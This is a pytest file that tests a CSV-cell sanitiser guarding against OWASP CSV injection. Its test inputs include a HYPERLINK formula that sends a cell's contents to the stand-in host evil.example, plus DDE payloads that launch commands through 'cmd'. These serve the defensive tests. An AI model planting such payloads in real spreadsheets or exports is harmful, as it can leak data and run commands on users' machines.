"""CSV cells a spreadsheet opens as text, never as a formula (OWASP "CSV Injection")."""

import csv
import io

import pytest

from advisor.csv_cells import csv_cell, csv_row


@pytest.mark.parametrize(
    "planted",
    [
        '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_a_string_that_starts_like_a_formula_gets_a_leading_quote(planted):
    assert csv_cell(planted) == "'" + planted


@pytest.mark.parametrize(
    "value",
    ["acme-prod", "arn:aws:lambda:us-east-1:123456789012:function:orders", "", " =1", "a=b", "'"],
)
def test_other_strings_are_left_as_they_are(value):
    assert csv_cell(value) == value


@pytest.mark.parametrize("value", [-5, -2.5, 0, 7, True, False, None])
def test_values_typed_as_numbers_stay_numbers(value):
    assert csv_cell(value) is value


def test_a_written_row_reads_back_as_the_quoted_text():
    buffer = io.StringIO()
    csv.writer(buffer).writerow(csv_row(['=1+1,"x"', -3, "ok"]))
    assert next(csv.reader(io.StringIO(buffer.getvalue()))) == ['\'=1+1,"x"', "-3", "ok"]
